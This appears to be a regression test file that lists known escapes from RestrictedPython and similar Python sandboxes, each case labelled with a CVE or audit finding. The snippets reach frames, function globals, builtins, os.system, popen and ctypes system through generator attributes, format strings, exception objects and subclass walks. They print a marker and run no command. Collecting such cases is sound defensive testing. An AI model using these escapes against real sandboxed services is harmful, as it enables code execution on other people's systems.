# Known escapes: advisories and audits of RestrictedPython, and advisories of similar sandboxes.

#: CVE-2023-37271 in a comprehension: the builtins of the outermost frame
frames = []
generator = (generator.gi_frame.f_back for _ in (1,))
frames = [frame for frame in generator]
print('REACHED', frames[0].f_builtins['open'])

#: CVE-2023-37271 in a function: the builtins of the calling frame
generator = None
def walk():
    global found
    found = generator.gi_frame.f_back.f_back or generator.gi_frame.f_back
    yield found
generator = walk()
generator.send(None)
print('REACHED', found.f_builtins['__import__']('sys').modules)

#: CVE-2023-37271 with a concatenated name: the frame of a generator
def count():
    yield 1
frame = getattr(count(), 'gi' + '_' + 'frame')
print('REACHED', frame)

#: CVE-2023-37271 with the attribute gi_code: the code of a generator
generator = (x for x in ())
print('REACHED', generator.gi_code.co_code)

#: CVE-2023-37271 with gi_yieldfrom: the frame of the inner generator
def inner():
    yield 1
def outer():
    yield from inner()
generator = outer()
next(generator)
print('REACHED', generator.gi_yieldfrom.gi_frame)

#: CVE-2023-41039 with format: the globals of a function as a string
secret = 'kept'
def f():
    pass
print('REACHED', '{0.__globals__[secret]}'.format(f))

#: CVE-2023-41039 with format_map: the globals of a function as a string
secret = 'kept'
def f():
    pass
print('REACHED', '{f.__globals__[secret]}'.format_map({'f': f}))

#: CVE-2023-41039 with str.format: the globals of a function as a string
secret = 'kept'
def f():
    pass
print('REACHED', str.format('{0.__globals__[secret]}', f))

#: CVE-2023-41039 with a subclass of str: the globals of a function as a string
class Text(str):
    pass
secret = 'kept'
def f():
    pass
print('REACHED', Text('{0.__globals__[secret]}').format(f))

#: CVE-2023-41039 with string.Formatter: the globals of a function as a string
import string
secret = 'kept'
def f():
    pass
print('REACHED', string.Formatter().format('{0.__globals__[secret]}', f))

#: RestrictedPython 7.2, a name of a str subclass: the globals of a function
class Name(str):
    def startswith(self, *prefix):
        return False
    def __getitem__(self, index):
        return 'x'
    def __contains__(self, text):
        return False
def f():
    pass
print('REACHED', getattr(f, Name('__globals__')))

#: RestrictedPython 7.2, a name whose hash changes: the globals of a function
class Name(str):
    asked = 0
    def __str__(self):
        return 'harmless'
    def __hash__(self):
        Name.asked += 1
        return hash('__name__' if Name.asked < 2 else '__globals__')
    def __eq__(self, other):
        return other == '__globals__'
def f():
    pass
for attempt in range(4):
    found = getattr(f, Name('__globals__'), None)
    if isinstance(found, dict):
        print('REACHED', found)
        break

#: CVE-2024-47532: the module behind a facade
import string
try:
    string.nothing
except AttributeError as error:
    print('REACHED', error.obj._string)

#: CVE-2024-47532 with an imported module: the loader of the module behind a facade
import math
try:
    math.nothing
except AttributeError as error:
    loader = getattr(error.obj, '__loader' + '__')
    print('REACHED', loader.load_module)

#: CVE-2024-47532 in the strict profile: an excluded name of a facade
#: only: strict
import string
try:
    string.nothing
except AttributeError as error:
    print('REACHED', error.obj.Formatter)

#: CVE-2025-22153, an exception group with an invalid split: an exception that is not an exception
#: control: none, it crashes the affected versions
class Group(ExceptionGroup):
    def split(self, condition):
        return 'no exception', None
try:
    raise Group('', [ValueError()])
except* ValueError:
    try:
        raise KeyError
    except KeyError as error:
        if not isinstance(error.__context__, BaseException):
            print('REACHED', error.__context__)

#: CVE-2025-22153, an exception group with a derive method: the frame of a handler
class Group(ExceptionGroup):
    def derive(self, exceptions):
        return Group(self.message, exceptions)
try:
    raise Group('', [ValueError(), TypeError()])
except* ValueError as error:
    print('REACHED', error.__traceback__.tb_frame)
except* TypeError:
    pass

#: CVE-2026-55830, a positional-only parameter: a guard of attributes
#: control: hooks
def mine(object, name):
    print('REACHED', name)
def read(value, _getattr_=mine, /):
    return value.upper
read('')

#: CVE-2026-55830, a positional-only parameter without a default: a guard of writes
#: control: hooks
class Box:
    pass
def mine(object):
    print('REACHED', object)
    return object
def put(box, _write_, /):
    box.value = 1
put(Box(), mine)

#: CVE-2026-55830, a positional-only parameter of a lambda: a guard of items
#: control: hooks
def mine(object, key):
    print('REACHED', key)
(lambda value, _getitem_=mine, /: value['key'])({'key': 1})

#: CVE-2026-55830, a positional-only parameter of a method: a guard of iteration
#: control: hooks
def mine(iterable):
    print('REACHED', iterable)
    return iterable
class Loop:
    def run(self, items, _getiter_=mine, /):
        return [item for item in items]
Loop().run([1])

#: CVE-2026-76825 with string.Formatter.get_field: the globals of a function
import string
def f():
    pass
found, _ = string.Formatter().get_field('0.__globals__', (f,), {})
print('REACHED', found['__builtins__'])

#: CVE-2026-76825 with get_field and permitted names: the globals of a function
import string
def f():
    pass
result = string.Formatter().get_field('0.__globals__', [f], {})
print('REACHED', result[0])

#: CVE-2026-76825 with vformat: an attribute of an argument
#: only: strict
import string
print('REACHED', string.Formatter().vformat('{0.real}', [5], {}))

#: CVE-2026-76825 with a subclass of string.Formatter: the globals of a function
import string
class Keeper(string.Formatter):
    def format_field(self, value, spec):
        kept.append(value)
        return ''
kept = []
def f():
    pass
Keeper().format('{0.__globals__}', f)
print('REACHED', kept[0])

#: the audit of RestrictedPython 8.5, unpacking in a comprehension: unguarded iteration
#: only: strict
#: control: none, the syntax is new in Python 3.15
print('REACHED', [*x for x in [[1], [2]]])

#: the audit of RestrictedPython 8.5, the frame of an asynchronous generator: the globals
async def count():
    yield 1
print('REACHED', count().ag_frame.f_globals)

#: the audit of RestrictedPython 8.5, the code of an asynchronous generator: the code
async def count():
    yield 1
print('REACHED', getattr(count(), 'ag_' + 'code'))

#: RestrictedPython 9.0, bytes and sorted: iteration in native code
#: only: strict
print('REACHED', bytes([1, 2]), sorted([2, 1]))

#: RestrictedPython 9.0, zip and reversed: iteration in native code
#: only: strict
for pair in zip([1], reversed([2])):
    print('REACHED', pair)

#: n8n CVE-2025-68668: the C library
import ctypes
print('REACHED', ctypes.CDLL(None).system)

#: n8n CVE-2026-0863, an AttributeError of a format: an object that the format read
def f():
    pass
try:
    '{0.__globals__[__builtins__].nothing}'.format(f)
except AttributeError as error:
    print('REACHED', error.obj.open)

#: n8n CVE-2026-0863, an AttributeError of a format: the frame of a traceback
try:
    1 / 0
except ZeroDivisionError as error:
    traceback = error.__traceback__
try:
    '{0.tb_frame.nothing}'.format(traceback)
except AttributeError as error:
    if error.obj is not None and error.obj is not traceback:
        print('REACHED', error.obj)

#: asteval, an AttributeError of a format_map: the method that lists all classes
try:
    '{c.__subclasses__.nothing}'.format_map({'c': object})
except AttributeError as error:
    if error.obj is not None and error.obj is not object:
        print('REACHED', error.obj())

#: Grist CVE-2026-24002: the globals of a class of another module
import os
for kind in ().__class__.__base__.__subclasses__():
    if kind.__name__ == '_wrap_close':
        print('REACHED', kind.__init__.__globals__['system'])

#: simpleeval #138 with the globals of a function: a module
import functools
print('REACHED', functools.namedtuple.__globals__['_sys'].modules)

#: simpleeval #138 with a private name of a module: a module
import collections
print('REACHED', getattr(collections, '_s' + 'ys').modules)

#: zope #142 with getattr: all classes
base = getattr(getattr((), '__cl' + 'ass__'), '__ba' + 'se__')
print('REACHED', getattr(base, '__sub' + 'classes__')())

#: zope #142 with getattr: a new process
base = getattr(getattr((), '__class__'), '__base__')
for kind in getattr(base, '__subclasses__')():
    scope = getattr(getattr(kind, '__init__', None), '__globals__', {})
    if 'popen' in scope:
        print('REACHED', scope['popen'])
        break
